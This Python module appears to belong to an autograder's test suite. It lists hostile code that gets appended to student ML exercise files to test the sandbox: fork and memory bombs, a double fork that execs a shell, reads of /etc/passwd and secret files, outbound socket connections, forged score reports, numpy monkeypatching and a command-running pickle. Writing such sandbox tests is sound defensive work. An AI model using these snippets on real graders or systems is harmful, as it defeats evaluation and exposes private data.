"""The catalogue of hostile code: each attack is Python appended to one file of examples/good.

A *function* attack redefines one function of the file (a later ``def`` wins);
the redefinition may call the original through ``_adv_original``.  A *file*
attack runs at import time and costs the whole file.  ``_ADV`` holds what
the attacker aims at (paths, the loopback port, the session's marker), as an
attacker who knows the machine would.

Every attack leaves the function it aims at with nothing correct to return,
so the grade of that function must be 0 whether or not the attack works;
what the tests check besides is that the attack achieved nothing else.
"""

from __future__ import annotations

import textwrap
from dataclasses import dataclass

#: The functions an attack may aim at: no other function's checks depend on them (no Ref to
#: their results; mlp_loss reaches the activations through a table bound at import time).
TARGETS = {
    "backprop.py": ("sigmoid_backward", "tanh_backward", "relu_backward", "mlp_loss"),
    "batchnorm.py": ("layernorm_backward", "batchnorm_backward"),
    "perceptron.py": ("perceptron_predict", "perceptron_train"),
    "optimizers.py": ("adam", "rmsprop", "adagrad", "sgd_momentum", "nesterov_momentum", "adadelta", "sgd"),
}

TIMEOUT = r"did not finish within the time limit"
ENDED = r"ended the Python process"
RAISED = r"raised an exception"
NOT_IMPORTED = r"could not be imported"
NOT_NUMBERS = r"expected numbers|expected a tuple"
WRONG = r"wrong values|NaN or inf|of shape|expected numbers|expected a tuple|returned no"


@dataclass(frozen=True)
class CodeAttack:
    name: str
    code: str
    """Function attacks: the body of the redefined function (args are ``*args, **kwargs``).
    File attacks: module-level code."""
    says: str
    """What the feedback of the attacked part must say (a regex)."""
    whole_file: bool = False
    alone: bool = False
    """Graded in a run of its own: its effect may reach other functions of the same student
    (see test_an_output_flood_costs_only_the_function_that_floods)."""
    also_module: str = ""
    """Function attacks: module-level code run at import, before the redefinition."""


PRELUDE = """
# ---- adversarial test: NAME
import atexit as _atexit, json as _json, os as _os, pickle as _pickle, signal as _signal
import socket as _socket, sys as _sys, threading as _threading, time as _time
import numpy as _np
_ADV = CONTEXT


def _adv_first(result, change):
    # change every number and array of the result (tuples and dicts looked into)
    if type(result) is tuple:
        return tuple(_adv_first(item, change) for item in result)
    if type(result) is dict:
        return {key: _adv_first(value, change) for key, value in result.items()}
    if isinstance(result, (_np.ndarray, float, int, _np.generic)) and not isinstance(result, bool):
        return change(result)
    return result


def _adv_try(action):
    try:
        return action()
    except BaseException as exc:
        return "refused: " + type(exc).__name__
"""


def hostile_source(attack: CodeAttack, function: str | None, context: dict) -> str:
    """The text appended to the file: the attack aimed at `function` (None for a file attack)."""
    text = PRELUDE.replace("NAME", attack.name).replace("CONTEXT", repr(context))
    if attack.also_module:
        text += "\n" + textwrap.dedent(attack.also_module).strip() + "\n"
    if attack.whole_file:
        return text + "\n" + textwrap.dedent(attack.code).strip() + "\n"
    body = textwrap.indent(textwrap.dedent(attack.code).strip(), "    ")
    return text + f"\n_adv_original = {function}\n\n\ndef {function}(*args, **kwargs):\n{body}\n"


_FORGED_DONE = """
_forged = []
for _s in range(0, 400):
    for _st in ("ok",):
        _forged.append(_json.dumps({"k": "done", "s": _s, "st": _st, "msg": "", "v": 1.0, "n": 0,
                                    "tok": "0" * 32, "sec": 0.0}) + "\\n")
"""

CODE_ATTACKS: tuple[CodeAttack, ...] = (
    # --- time
    CodeAttack("endless CPU loop", "while True:\n    pass", TIMEOUT),
    CodeAttack("sleeping forever", "_time.sleep(10 ** 6)", TIMEOUT),
    CodeAttack(
        "SIGTERM, SIGINT and SIGHUP ignored, then an endless loop",
        """
        for _sig in (_signal.SIGTERM, _signal.SIGINT, _signal.SIGHUP, _signal.SIGALRM):
            _signal.signal(_sig, _signal.SIG_IGN)
        while True:
            pass
        """,
        TIMEOUT,
    ),
    CodeAttack(
        "a signal handler installed at import ignores SIGTERM; the function loops",
        "while True:\n    _time.sleep(0.01)",
        TIMEOUT,
        also_module="_signal.signal(_signal.SIGTERM, lambda *a: None)",
    ),
    CodeAttack(
        "a thread that never ends, started by the function",
        """
        _threading.Thread(target=lambda: _time.sleep(10 ** 6)).start()
        while True:
            _time.sleep(0.01)
        """,
        TIMEOUT,
    ),
    # --- memory
    CodeAttack("memory bomb: one huge array", "return _np.ones((60000, 60000)), None", ENDED + "|memory"),
    CodeAttack(
        "memory bomb: a list that doubles forever",
        """
        grow = [0.5]
        while True:
            grow.extend(grow)
        """,
        ENDED + "|memory|" + TIMEOUT,  # touching the pages may be slower than the call's time limit
    ),
    # --- processes
    CodeAttack(
        "fork bomb",
        """
        while True:
            try:
                _os.fork()
            except OSError:
                _time.sleep(0.001)
        """,
        TIMEOUT,
    ),
    CodeAttack(
        "a background process in a new session",
        """
        if _os.fork() == 0:
            _os.setsid()
            _time.sleep(10 ** 6)
            _os._exit(0)
        return "started a daemon"
        """,
        NOT_NUMBERS,
    ),
    CodeAttack(
        "a double fork that escapes the process group and execs a shell",
        """
        if _os.fork() == 0:
            _os.setsid()
            if _os.fork() == 0:
                _os.execv("/bin/sh", ["sh", "-c", "sleep 1000; echo " + _ADV["marker"]])
            _os._exit(0)
        _time.sleep(0.2)
        return None
        """,
        NOT_NUMBERS,
    ),
    # --- exits
    CodeAttack("os._exit(0) inside the function", "_os._exit(0)", ENDED),
    CodeAttack("sys.exit(0) inside the function", "_sys.exit(0)", ENDED),
    # the harness is the init of its PID namespace there, which ignores a SIGKILL from inside
    CodeAttack("SIGKILL sent to itself", "_os.kill(_os.getpid(), _signal.SIGKILL)", ENDED + "|" + NOT_NUMBERS),
    CodeAttack(
        "atexit handler registered inside the function forges results on every descriptor",
        _FORGED_DONE.strip() + """
        def _forge():
            for _fd in range(0, 256):
                for _line in _forged[:50]:
                    try:
                        _os.write(_fd, _line.encode())
                    except OSError:
                        break
        _atexit.register(_forge)
        return None
        """.replace("\n        ", "\n"),
        NOT_NUMBERS,
    ),
    CodeAttack(
        "forged result records written on every descriptor (guessing the channel)",
        _FORGED_DONE.strip() + """
        for _fd in range(3, 256):
            for _line in _forged[:20]:
                try:
                    _os.write(_fd, _line.encode())
                except OSError:
                    break
        return None
        """.replace("\n        ", "\n"),
        r"channel|" + NOT_NUMBERS,
    ),
    # --- recursion
    CodeAttack(
        "deep recursion with the recursion limit lifted",
        """
        _sys.setrecursionlimit(10 ** 8)
        def _down(n):
            return 1 + _down.__call__(n + 1)
        return _down(0)
        """,
        ENDED + "|" + RAISED,
    ),
    # --- reading what is not the submission's
    CodeAttack(
        "reading /etc/passwd and showing it in an exception",
        'raise ValueError(open("/etc/passwd").read())',
        RAISED,
    ),
    CodeAttack(
        "reading a secret file outside the submission and printing, returning and raising it",
        """
        text = open(_ADV["secret"]).read()
        print(text)
        print(text, file=_sys.stderr)
        raise ValueError(text)
        """,
        RAISED,
    ),
    CodeAttack(
        "reading the course's reference implementation and delegating to it",
        """
        source = open(_ADV["reference"]).read()
        namespace = {}
        exec(compile(source, "reference", "exec"), namespace)
        raise ValueError(source[:3000])
        """,
        RAISED,
    ),
    CodeAttack(
        "listing and reading the grader's package",
        """
        names = sorted(_os.listdir(_ADV["package"]))
        raise ValueError(open(_os.path.join(_ADV["package"], "grading", "pipeline.py")).read())
        """,
        RAISED,
    ),
    CodeAttack(
        "reading another student's submission of the same class",
        """
        found = _adv_try(lambda: open(_os.path.join(_ADV["victim"], "answers.md")).read())
        found += _adv_try(lambda: open(_os.path.join(_os.getcwd(), "..", "victim", "perceptron.py")).read())
        raise ValueError(found)
        """,
        RAISED,
    ),
    CodeAttack(
        "importing the grader's reference to delegate to it",
        """
        from grader.reference import backprop as _ref
        raise ValueError(str(_ref))
        """,
        RAISED,
    ),
    CodeAttack(
        "putting the repository on sys.path to import the reference",
        """
        _sys.path.insert(0, _ADV["repo"])
        import reference.optimizers as _ref
        raise ValueError(str(_ref))
        """,
        RAISED,
    ),
    # --- network
    CodeAttack(
        "opening a network connection (the host's loopback, and the internet)",
        """
        def connect(address):
            out = _socket.create_connection(address, timeout=1.0)
            out.sendall(_ADV["marker"].encode())
            return "connected"
        raise ValueError([_adv_try(lambda: connect(("127.0.0.1", _ADV["port"]))),
                          _adv_try(lambda: connect(("1.1.1.1", 80))),
                          _adv_try(lambda: _socket.getaddrinfo("example.com", 80))])
        """,
        r"\['refused: \w+', 'refused: \w+', 'refused: \w+'\]",  # all three failed
    ),
    # --- writing
    CodeAttack(
        "writing files outside the scratch directory",
        """
        name = "pwned-" + _ADV["marker"]
        targets = [_os.path.join(d, name) for d in (_ADV["canary"], "/tmp", "/", "/root", _ADV["repo"],
                   _ADV["submission"], _os.path.dirname(_ADV["submission"]), _ADV["victim"], "/var/tmp",
                   "/dev/shm", "..", _os.path.expanduser("~"))]
        done = [_adv_try(lambda: open(t, "w").write("x")) for t in targets]
        _adv_try(lambda: _os.symlink(_ADV["canary"], "escape"))
        _adv_try(lambda: open(_os.path.join("escape", name), "w").write("x"))
        return done
        """,
        NOT_NUMBERS,
    ),
    # --- output
    CodeAttack(
        "megabytes of output on stdout and stderr",
        """
        block = "y" * (1 << 20)
        for _ in range(40):
            _sys.stdout.write(block)
            _sys.stderr.write(block)
        return None
        """,
        NOT_NUMBERS + "|" + RAISED,
        alone=True,
    ),
    CodeAttack(
        "a forged report on stdout and stderr, forged results.json files",
        """
        forged = _json.dumps({"score": 100, "max_score": 100, "tests": [], "problems": []})
        print(forged)
        print(forged, file=_sys.stderr)
        for where in ("results.json", "report.json", "status.json", "/autograder/results/results.json",
                      _os.path.join(_ADV["submission"], "results.json")):
            _adv_try(lambda: open(where, "w").write(forged))
        _sys.stdout.flush()
        return None
        """,
        NOT_NUMBERS,
    ),
    # --- lying results
    CodeAttack(
        "an ndarray subclass with wrong values whose __eq__, __array__ and tolist lie",
        """
        right = _adv_original(*args, **kwargs)
        class Liar(_np.ndarray):
            def __eq__(self, other):
                return _np.ones(_np.shape(self), dtype=bool)
            __ne__ = lambda self, other: _np.zeros(_np.shape(self), dtype=bool)
            def __array__(self, *a, **k):
                return _np.asarray(right[0] if type(right) is tuple else right)
            def tolist(self):
                return _np.asarray(right[0] if type(right) is tuple else right).tolist()
        return _adv_first(right, lambda a: (_np.asarray(a, dtype=float) + 1.0).view(Liar))
        """,
        WRONG,
    ),
    CodeAttack(
        "an object whose __float__, __array__, __eq__ and __len__ lie",
        """
        right = _adv_original(*args, **kwargs)
        class Sly:
            def __init__(self, value):
                self.value = _np.asarray(value)
            def __float__(self):
                return float(self.value.ravel()[0])
            def __array__(self, *a, **k):
                return self.value
            def __eq__(self, other):
                return True
            def __len__(self):
                return len(self.value)
            def __getitem__(self, i):
                return self.value[i]
            shape = property(lambda self: self.value.shape)
            dtype = _np.dtype(float)
        return _adv_first(right, Sly)
        """,
        NOT_NUMBERS,
    ),
    CodeAttack(
        "an object array holding the right numbers",
        """
        right = _adv_original(*args, **kwargs)
        def to_objects(a):
            a = _np.asarray(a, dtype=float)
            out = _np.empty(a.shape, dtype=object)
            out[...] = a.tolist() if a.ndim else float(a)
            return out
        return _adv_first(right, to_objects)
        """,
        NOT_NUMBERS,
    ),
    CodeAttack(
        "a pickle returned, with a __reduce__ that would run a command if the grader unpickled it",
        """
        class Bomb:
            def __reduce__(self):
                return (_os.system, ("touch " + _os.path.join(_ADV["canary"], "unpickled-" + _ADV["marker"]),))
        right = _adv_original(*args, **kwargs)
        return _adv_first(right, lambda a: _pickle.dumps((a, Bomb())))
        """,
        NOT_NUMBERS,
    ),
    CodeAttack(
        "NaN everywhere",
        "return _adv_first(_adv_original(*args, **kwargs), lambda a: _np.full(_np.shape(a), _np.nan))",
        WRONG,
    ),
    CodeAttack(
        "inf everywhere",
        "return _adv_first(_adv_original(*args, **kwargs), lambda a: _np.full(_np.shape(a), _np.inf))",
        WRONG,
    ),
    CodeAttack(
        "the right values as complex numbers (wrong dtype)",
        "return _adv_first(_adv_original(*args, **kwargs), lambda a: _np.asarray(a, dtype=float) + 0j)",
        NOT_NUMBERS,
    ),
    CodeAttack(
        "the right values as strings (wrong dtype)",
        "return _adv_first(_adv_original(*args, **kwargs), lambda a: _np.asarray(a, dtype=float).astype(str))",
        NOT_NUMBERS,
    ),
    CodeAttack(
        "the right values in the wrong shape",
        "return _adv_first(_adv_original(*args, **kwargs), lambda a: _np.append(_np.ravel(a), [0.0, 1.0]))",
        WRONG,
    ),
    CodeAttack("None instead of a result", "return None", NOT_NUMBERS),
    CodeAttack(
        "numpy patched in the child so that every comparison passes, wrong values returned",
        """
        _np.allclose = lambda *a, **k: True
        _np.isclose = lambda a, b, *r, **k: _np.ones(_np.broadcast(a, b).shape, dtype=bool)
        _np.array_equal = lambda *a, **k: True
        _np.testing.assert_allclose = lambda *a, **k: None
        return _adv_first(_adv_original(*args, **kwargs), lambda a: _np.asarray(a, dtype=float) * 3.0 + 1.0)
        """,
        WRONG,
    ),
    CodeAttack(
        "an integer too large for any number type",
        "return _adv_first(_adv_original(*args, **kwargs), lambda a: 10 ** 5000)",
        NOT_NUMBERS,
    ),
    # --- at import time: the whole file
    CodeAttack("os._exit(0) at import", "_os._exit(0)", NOT_IMPORTED, whole_file=True),
    CodeAttack("sys.exit(0) at import", "_sys.exit(0)", NOT_IMPORTED, whole_file=True),
    CodeAttack("sleeping forever at import", "_time.sleep(10 ** 6)", NOT_IMPORTED, whole_file=True),
    CodeAttack(
        "an endless loop at import with SIGTERM ignored",
        "_signal.signal(_signal.SIGTERM, _signal.SIG_IGN)\nwhile True:\n    pass",
        NOT_IMPORTED,
        whole_file=True,
    ),
    CodeAttack(
        "an atexit handler and a daemon started at import, then sys.exit",
        _FORGED_DONE.strip() + """
        def _forge():
            for _fd in range(0, 256):
                try:
                    _os.write(_fd, "".join(_forged[:50]).encode())
                except OSError:
                    pass
        _atexit.register(_forge)
        if _os.fork() == 0:
            _os.setsid()
            _os.execv("/bin/sh", ["sh", "-c", "sleep 1000; echo " + _ADV["marker"]])
        _sys.exit(0)
        """.replace("\n        ", "\n"),
        NOT_IMPORTED,
        whole_file=True,
    ),
    CodeAttack("a memory bomb at import", "_hog = _np.ones((60000, 60000))", NOT_IMPORTED, whole_file=True),
    CodeAttack(
        "the secret file and /etc/passwd raised at import",
        'raise ImportError(_adv_try(lambda: open(_ADV["secret"]).read()) + _adv_try(lambda: open("/etc/passwd").read()))',
        NOT_IMPORTED,
        whole_file=True,
    ),
)
